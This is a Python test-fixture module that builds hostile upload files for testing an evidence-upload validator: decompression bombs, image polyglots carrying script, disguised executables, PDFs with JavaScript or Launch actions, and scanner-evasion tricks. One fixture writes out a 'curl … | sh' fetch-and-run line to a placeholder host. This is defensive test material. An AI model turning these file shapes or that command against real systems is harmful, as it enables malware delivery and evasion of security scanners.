"""Evidence test files, good and hostile, built in code so no binary is ever committed.

Each builder returns the bytes a reporter's browser would send. The hostile ones follow real
attack shapes: polyglots (an image that is also a page or a zip), decompression bombs (a tiny
file that claims billions of pixels), disguised executables and active PDFs.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib

from PIL import ExifTags, Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

GPS_IFD = 0x8825
CAMERA_MAKE = "HostileTestCam"
SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"


# ---------------------------------------------------------------------------
# Images
# ---------------------------------------------------------------------------
def _scene(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A picture with structure (so compression and rotation are real), not a flat colour."""
    image = Image.new("RGB", size, (40, 90, 160))
    draw = ImageDraw.Draw(image)
    width, height = size
    draw.rectangle((0, 0, width // 2, height), fill=(200, 40, 40))  # red left half
    draw.ellipse((width // 4, height // 4, 3 * width // 4, 3 * height // 4), fill=(250, 220, 0))
    return image.convert(mode)


def gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = CAMERA_MAKE
    exif[ExifTags.Base.Model] = "Model 7"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(GPS_IFD)
    # A home address is exactly what must not leak: 53°47'55"N 1°32'57"W (Leeds).
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (53.0, 47.0, 55.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (1.0, 32.0, 57.0)
    return exif


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
    b'22-rdf-syntax-ns#"><rdf:Description xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"'
    b' photoshop:City="Leeds"/></rdf:RDF></x:xmpmeta>'
)


def jpeg(
    size: tuple[int, int] = (96, 64),
    *,
    gps: bool = False,
    orientation: int | None = None,
    comment: bytes | None = None,
    xmp: bytes | None = None,
) -> bytes:
    options: dict[str, object] = {"quality": 90}
    if gps or orientation is not None:
        options["exif"] = gps_exif(orientation) if gps else _orientation_only(orientation)
    if comment is not None:
        options["comment"] = comment
    if xmp is not None:
        options["xmp"] = xmp
    out = io.BytesIO()
    _scene(size).save(out, "JPEG", **options)
    return out.getvalue()


def _orientation_only(orientation: int | None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    return exif


def png(size: tuple[int, int] = (80, 60), mode: str = "RGB", *, text: str | None = None) -> bytes:
    image = _scene(size, mode)
    options: dict[str, object] = {}
    if text is not None:
        info = PngInfo()
        info.add_text("Author", text)
        info.add_text("Comment", text)
        options["pnginfo"] = info
        options["exif"] = gps_exif()
    out = io.BytesIO()
    image.save(out, "PNG", **options)
    return out.getvalue()


def transparent_png(size: tuple[int, int] = (40, 40)) -> bytes:
    image = Image.new("RGBA", size, (0, 0, 0, 0))
    ImageDraw.Draw(image).rectangle((10, 10, 30, 30), fill=(0, 128, 0, 255))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def animated_gif(size: tuple[int, int] = (32, 24)) -> bytes:
    frames = [Image.new("RGB", size, colour) for colour in ((255, 0, 0), (0, 0, 255))]
    out = io.BytesIO()
    frames[0].save(
        out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0, comment=b"hi"
    )
    return out.getvalue()


def webp(size: tuple[int, int] = (64, 48), *, lossless: bool = False) -> bytes:
    out = io.BytesIO()
    _scene(size).save(out, "WEBP", lossless=lossless, quality=80)
    return out.getvalue()


def sixteen_bit_grey_png(size: tuple[int, int] = (16, 8)) -> bytes:
    width, height = size
    row = struct.pack("<H", 40000) * (width // 2) + bytes(2 * (width - width // 2))
    image = Image.frombytes("I;16", size, row * height)  # left half light grey, right black
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def truncated_jpeg() -> bytes:
    whole = jpeg((320, 240))
    return whole[: int(len(whole) * 0.6)]


def png_with_broken_crc() -> bytes:
    data = bytearray(png())
    idat = data.index(b"IDAT")
    data[idat + 6] ^= 0xFF  # flip a byte of compressed pixels; the chunk CRC no longer matches
    return bytes(data)


def png_with_corrupt_pixels_and_valid_checksums() -> bytes:
    """Every chunk CRC is right, but the compressed pixel data is garbage: only a real decode
    can tell."""
    header = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    garbage = zlib.compress(bytes(100))[:2] + bytes(range(256)) * 4  # a zlib header, then noise
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", garbage)
        + png_chunk(b"IEND", b"")
    )


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body))
        + kind
        + body
        + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A real, decodable 1-bit PNG of widthxheight black pixels: ~110 KB on disk, ~900 million
    pixels (3.6 GB as RGBA) in memory if anything were foolish enough to decode it."""
    row = bytes(1 + (width + 7) // 8)  # filter byte 0, then all-zero pixels
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def jpeg_claiming_size(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header is patched to claim a huge size."""
    data = bytearray(jpeg((16, 16)))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def gif_with_huge_frame() -> bytes:
    """A GIF whose logical screen is 1x1 but whose frame claims 65535x65535."""
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 1, 1, 0, 0, 0)
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
        + b"\x02\x02\x4c\x01\x00"  # LZW code size 2, one tiny sub-block, terminator
        + b"\x3b"
    )


def webp_with_huge_canvas() -> bytes:
    """A tiny lossy WebP wrapped in an extended header claiming a 16384x16384 canvas, which
    libwebp's animation decoder would allocate (1 GB) the moment Pillow opened it."""
    small = webp((16, 16))
    vp8 = small[12:]  # the VP8 chunk, header included
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00"
    vp8x += (16383).to_bytes(3, "little") + (16383).to_bytes(3, "little")
    body = b"WEBP" + vp8x + vp8
    return b"RIFF" + struct.pack("<I", len(body)) + body


# ---------------------------------------------------------------------------
# Polyglots
# ---------------------------------------------------------------------------
def png_html_polyglot() -> bytes:
    """A valid PNG with a web page glued on after IEND: an image to a viewer, a page to a
    browser that sniffs."""
    return png() + SCRIPT


def png_signature_then_html() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + SCRIPT


def jpeg_with_trailing_script() -> bytes:
    return jpeg() + b"\n" + SCRIPT


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def gif_zip_polyglot() -> bytes:
    """A "GIFAR": a GIF that is also a zip (readers find a zip by its directory at the end)."""
    return animated_gif() + _zip({"payload.js": b"alert(1)"})


def jpeg_zip_polyglot() -> bytes:
    return jpeg() + _zip({"run.bat": b"@echo off\r\ncalc.exe\r\n"})


def jpeg_with_script_in_comment() -> bytes:
    return jpeg(comment=b"<script>alert(1)</script>")


# ---------------------------------------------------------------------------
# Not evidence at all
# ---------------------------------------------------------------------------
def windows_executable() -> bytes:
    """A DOS header pointing at a PE header: the start of every Windows .exe."""
    dos = bytearray(128)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    dos[0x40 : 0x40 + len(stub)] = stub
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return bytes(dos) + b"PE\x00\x00" + coff + bytes(0xE0) + bytes(512)


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)


def mach_o_executable() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<II", 0x01000007, 3) + bytes(200)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def zip_archive() -> bytes:
    return _zip({"photo.jpg": jpeg(), "notes.txt": b"hello"})


def gzip_archive() -> bytes:
    return gzip.compress(b"some text inside a gzip file\n" * 10)


def tar_archive() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        content = b"inside a tarball\n"
        member = tarfile.TarInfo("notes.txt")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    return out.getvalue()


def seven_zip_header() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)


def rar_header() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + bytes(24)


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        b'<circle cx="50" cy="50" r="40" fill="red"/>'
        b"<script>alert(document.domain)</script></svg>"
    )


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><head><title>Totally a text file</title></head>" + SCRIPT


def text_with_embedded_markup(markup: bytes = b"<IMG src=x onerror=alert(1)>") -> bytes:
    """Mostly chat log with markup half way down: libmagic still calls this text/plain."""
    chat = b"".join(b"[12/03/2026 10:%02d] Unknown: I know where you live\n" % m for m in range(40))
    return chat + markup + b"\n" + chat


def chat_log() -> bytes:
    lines = [
        "[12/03/2026, 21:14] Unknown number: I know where you park your car",
        "[12/03/2026, 21:15] Unknown number: nice house on Elm Street — kids walk to school?",
        "[12/03/2026, 21:40] Me: Who is this? Please stop messaging me.",
    ]
    return ("\n".join(lines) + "\n").encode("utf-8")


def utf16_text() -> bytes:
    return "A message saved by Notepad as UTF-16\r\n".encode("utf-16")


# ---------------------------------------------------------------------------
# PDFs
# ---------------------------------------------------------------------------
def build_pdf(
    objects: list[bytes], *, version: bytes = b"1.7", tail: bytes = b"", trailer: bytes = b""
) -> bytes:
    """A PDF with a correct cross-reference table. Object 1 is the catalogue."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out) + tail


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    return (
        b"<< /Length %d /Filter /FlateDecode%s >>\nstream\n" % (len(packed), extra)
        + packed
        + b"\nendstream"
    )


def _page_objects(catalogue_extra: bytes = b"") -> list[bytes]:
    content = b"BT /F1 24 Tf 72 720 Td (Evidence: abusive message received 12 March) Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R" + catalogue_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def clean_pdf() -> bytes:
    return build_pdf(_page_objects())


def pdf_with_javascript() -> bytes:
    objects = _page_objects(b" /OpenAction 6 0 R")
    objects.append(b"<< /Type /Action /S /JavaScript /JS (app.alert('hello')) >>")
    return build_pdf(objects)


def pdf_with_bare_js_key() -> bytes:
    """A page "additional action" carrying /JS without naming /JavaScript anywhere."""
    objects = _page_objects()
    objects[2] = objects[2].replace(
        b"/Contents", b"/AA << /O << /JS (app.alert(1)) >> >> /Contents"
    )
    return build_pdf(objects)


def pdf_with_launch_action() -> bytes:
    objects = _page_objects(b" /OpenAction 6 0 R")
    objects.append(b"<< /Type /Action /S /Launch /F (cmd.exe) >>")
    return build_pdf(objects)


def pdf_with_embedded_file() -> bytes:
    objects = _page_objects(b" /Names << /EmbeddedFiles 6 0 R >>")
    objects.append(b"<< /Names [(invoice.exe) 7 0 R] >>")
    objects.append(b"<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>")
    objects.append(_stream(b"MZ not really", b" /Type /EmbeddedFile"))
    return build_pdf(objects)


def pdf_with_escaped_javascript_name() -> bytes:
    """/J#61vaScript is /JavaScript spelled with a hex escape, as the spec permits."""
    objects = _page_objects(b" /OpenAction 6 0 R")
    objects.append(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>")
    return build_pdf(objects)


def _object_stream(objects: dict[int, bytes], *, labelled: bool = True) -> bytes:
    offsets, bodies, at = [], [], 0
    for number, body in objects.items():
        offsets.append(b"%d %d" % (number, at))
        bodies.append(body)
        at += len(body) + 1
    header = b" ".join(offsets) + b"\n"
    payload = header + b"\n".join(bodies)
    packed = zlib.compress(payload)
    label = b"/Type /ObjStm " if labelled else b""
    return (
        b"<< %s/N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
        % (label, len(objects), len(header), len(packed))
        + packed
        + b"\nendstream"
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """JavaScript hidden inside a compressed object stream, invisible to a plain byte search."""
    objects = _page_objects(b" /OpenAction 7 0 R")
    objects.append(_object_stream({7: b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"}))
    return build_pdf(objects, version=b"1.5")


def pdf_with_javascript_in_disguised_object_stream() -> bytes:
    """The object stream has no /Type (readers find it through the cross-reference anyway),
    and a string holding the word "stream" tries to make a scanner lose its place."""
    objects = _page_objects(b" /OpenAction 7 0 R /Note (a stream\n of words)")
    objects.append(
        _object_stream(
            {7: b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"}, labelled=False
        )
    )
    return build_pdf(objects, version=b"1.5")


def pdf_with_javascript_behind_a_fake_stream() -> bytes:
    """A string containing "stream" + newline makes a naive scanner skip ahead to the next
    "endstream", over a plain JavaScript action."""
    objects = _page_objects(b" /OpenAction 7 0 R")
    objects.append(b"<< /Note (a stream\n of words) >>")
    objects.append(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")
    objects.append(_stream(b"BT ET"))
    return build_pdf(objects)


def encrypted_pdf() -> bytes:
    objects = _page_objects()
    objects.append(b"<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>")
    return build_pdf(objects, trailer=b" /Encrypt 6 0 R")


def pdf_with_photo_bytes_that_look_like_names() -> bytes:
    """A JPEG image stream whose binary data happens to contain "/JS " and "/AA": a scanner
    that searched stream bytes for short names would refuse an honest scan."""
    photo = jpeg((64, 64))
    noise = photo[:200] + b"/JS /AA " + photo[200:]
    objects = _page_objects()
    objects.append(
        b"<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n"
        % len(noise)
        + noise
        + b"\nendstream"
    )
    return build_pdf(objects)


def pdf_with_clean_object_stream() -> bytes:
    objects = _page_objects(b" /Metadata 7 0 R")
    objects.append(_object_stream({7: b"<< /Title (Screenshots of messages) >>"}))
    return build_pdf(objects, version=b"1.5")


def truncated_pdf() -> bytes:
    whole = clean_pdf()
    return whole[: len(whole) // 2]


def pdf_with_trailing_html() -> bytes:
    return clean_pdf() + SCRIPT
